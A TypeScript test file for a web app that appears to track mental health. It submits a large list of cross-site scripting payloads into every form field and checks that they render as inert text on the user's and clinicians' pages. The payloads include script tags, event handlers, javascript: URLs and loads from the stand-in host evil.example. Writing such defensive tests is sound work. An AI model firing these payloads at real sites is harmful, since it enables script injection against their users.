import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { after, test } from 'node:test'
import { sql } from 'kysely'
import { sharable } from '../../src/access/policy.ts'
import { dayIn } from '../../src/core/clock.ts'
import { openBrowser } from '../browser.ts'
import { newCircle, writes } from '../conversation.ts'
import { openHouse } from '../harness.ts'
import type { Visitor } from '../visitor.ts'

// Whatever somebody writes in whatever box, it stays words on every page, theirs and the team's.
const house = await openHouse({ tools: { record: null } })
const browser = await openBrowser()
after(async () => {
  await browser.close()
  await house.close()
})

const breakOuts = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  ']]>',
  '</svg>',
  '"/>',
  '\\">',
  '`>',
  '</td>',
]
const scripts = [
  '<script>hurt=1</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=hurt=1>',
  '<svg/onload=hurt=1>',
  '<svg><script>hurt=1</script></svg>',
  '<details open ontoggle=hurt=1>',
  '<input autofocus onfocus=hurt=1>',
  '<video><source onerror=hurt=1></video>',
  '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
  '<a href="javascript:hurt=1" id=trap>x</a>',
  '<a href="data:text/html,<script>hurt=1</script>">x</a>',
  '<object data="javascript:hurt=1"></object>',
  '<embed src="javascript:hurt=1">',
  '<math><mtext><style><img src=x onerror=hurt=1></style></mtext></math>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:hurt=1">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action="//evil.example"><button>x</button></form>',
  '<b style="background:url(//evil.example)">x</b>',
  '<template><img src=x onerror=hurt=1></template>',
  '<body onload=hurt=1>',
  '" onmouseover="hurt=1" autofocus onfocus="hurt=1" x="',
  "' onfocus=hurt=1 autofocus '",
  'javascript:hurt=1//',
  'javascript://example.org/%0ahurt=1',
  'https://example.org/"onmouseover="hurt=1',
  '[x](javascript:hurt=1) ![x](//evil.example/x.png)',
  '{{constructor.constructor("hurt=1")()}} #{hurt=1} <%= hurt=1 %>',
  '&lt;script&gt;hurt=1&lt;/script&gt; &#60;img src=x onerror=hurt=1&#62;',
  '\u003cimg src=x onerror=hurt=1\u003e\u2028hurt=1//',
  '＜script＞hurt=1＜/script＞',
  '<noscript><p title="</noscript><img src=x onerror=hurt=1>">',
  '<x contenteditable onblur=hurt=1>lose focus</x>',
  '<animate onbegin=hurt=1 attributeName=x dur=1s>',
  '<table background="javascript:hurt=1"><td>',
  '<q cite="javascript:hurt=1">x</q>',
  '<button formaction="javascript:hurt=1">x</button>',
  '<isindex type=image src=1 onerror=hurt=1>',
]
const all = breakOuts.flatMap(before => scripts.map(script => before + script))
let taken = 0

/** As many of them as there is room for; the next box gets the next ones. */
function some(room: number): string {
  let text = ''
  for (let next = all[taken % all.length]!; [...`${text}${next}\n`].length <= room; next = all[++taken % all.length]!)
    text += `${next}\n`
  return text.trim()
}

/** The boxes for words on the form of a page: their names, and whether they are large. */
function boxesOn(page: string, action: string) {
  const form =
    [...page.matchAll(/<form\b.*?<\/form>/gs)].find(([form]) => form.includes(`action="${action}"`))?.[0] ?? ''
  const boxes = form.match(/<textarea\b[^>]*>|<input\b(?![^>]*type="(?:hidden|radio|checkbox|tel)")[^>]*>/g) ?? []
  return boxes
    .map(box => ({ name: /\bname="([^"]+)"/.exec(box)?.[1] ?? '', isLarge: box.startsWith('<textarea') }))
    .filter(({ name }) => name && !/-(day|month|year)$/.test(name))
}

/** Fills every box of a form, as full as the form allows. */
async function fills(visitor: Visitor, address: string, others: Record<string, string> = {}) {
  const { text } = await visitor.opens(address)
  const boxes = boxesOn(text, address)
  assert.ok(boxes.length, `${address} has boxes`)
  for (const room of [20_000, 4000, 2000, 500, 200, 100, 60, 40]) {
    const words = Object.fromEntries(
      boxes.map(({ name, isLarge }) => [name, some(isLarge ? room : Math.min(room, 80))]),
    )
    const answer = await visitor.sends(address, { key: randomUUID(), seen: '', ...words, ...others })
    if (answer.status === 303) return
    assert.ok([413, 422].includes(answer.status), `${address} with ${room}: ${answer.status}`)
    staysWords(answer.text, address)
  }
  assert.fail(`${address} takes no words`)
}

function staysWords(html: string, where: string) {
  const ours = html.replaceAll(/<(script|link|form|img|meta)\b[^>]*\b(src|href|action|content)="[^"<]*"[^>]*>/g, '')
  assert.doesNotMatch(ours, /<[^>"]*\son\w+=/i, where)
  assert.doesNotMatch(
    html,
    /<script(?![^>]*\bsrc="\/assets\/)|<iframe|<object|<embed|<base\b|="(javascript|data):/i,
    where,
  )
}

const today = dayIn('Europe/London', new Date())

/** Every page that stands at an address of this person's own. */
async function pagesOf(personId: string, isTheirs: (route: string) => boolean) {
  const idOf = async (table: string) => {
    const found = sql<{ id: string }>`select id from ${sql.table(table)} where person_id = ${personId} limit 1`
    return (await found.execute(house.owner)).rows[0]?.id ?? 'none'
  }
  const own: Record<string, string> = {
    personId,
    trackerId: await idOf('trackers'),
    goalId: await idOf('goals'),
    stepId: await idOf('goal_steps'),
    strategyId: await idOf('strategies'),
    markId: await idOf('tracking_marks'),
    kind: 'problem',
    version: '1',
  }
  const routes = house.app.doors.filter(
    route => route.startsWith('GET ') && !/[*?]|stream|after|seen|download\//.test(route),
  )
  return routes
    .map(route => route.slice('GET '.length))
    .filter(isTheirs)
    .map(route => route.replaceAll(/:(\w+)/g, (_, name: string) => own[name] ?? today))
}

test(`${all.length} texts that would be scripts are words on every page, to the person and to the team`, async () => {
  const { person, visitor, staff, staffAddress } = await newCircle(
    house,
    ['Kit <img src=x onerror=hurt=1>'],
    'Sam <svg/onload=hurt=1>',
  )
  await house.owner
    .insertInto('sharingChoices')
    .values(sharable.map(deed => ({ personId: person.personId, audience: 'clinician', deed })))
    .execute()
  await fills(visitor, '/account/details')
  await fills(visitor, '/tracking/trackers/new/problem')
  await fills(
    visitor,
    `/tracking/sleep/${(await visitor.opens('/tracking/sleep')).text.match(/\/tracking\/sleep\/(\d{4}-\d\d-\d\d)"/)?.[1]}`,
    { hours: '7' },
  )
  await fills(visitor, `/tracking/diary/${today}`)
  await fills(visitor, '/goals/new')
  await fills(visitor, '/what-helps/new')
  await fills(visitor, '/safety-plan/form')
  while (taken < 2 * all.length) await writes(visitor, some(5000))
  await writes(staff[0]!, some(5000), staffAddress)

  const walks = [
    { who: visitor, pages: await pagesOf(person.personId, route => !route.startsWith('/caseload')) },
    { who: staff[0]!, pages: await pagesOf(person.personId, route => /^\/caseload($|\/:personId)/.test(route)) },
  ]
  for (const { who, pages } of walks) {
    const walk = await browser.walk({ address: house.address })
    await walk.carries(who)
    walk.page.on('dialog', dialog => assert.fail(dialog.message()))
    let shown = 0
    for (const address of pages) {
      const { text, headers } = await who.opens(address)
      if (!String(headers['content-type']).startsWith('text/html')) continue
      staysWords(text, address)
      if (text.includes('hurt=1')) shown++
      await walk.opens(address)
      assert.deepEqual(await walk.page.evaluate(() => ['hurt' in window, document.querySelector('#trap')]), [
        false,
        null,
      ])
    }
    assert.ok(shown > 5, `${shown} of ${pages.length} pages showed any of them`)
    await walk.ends()
  }
})
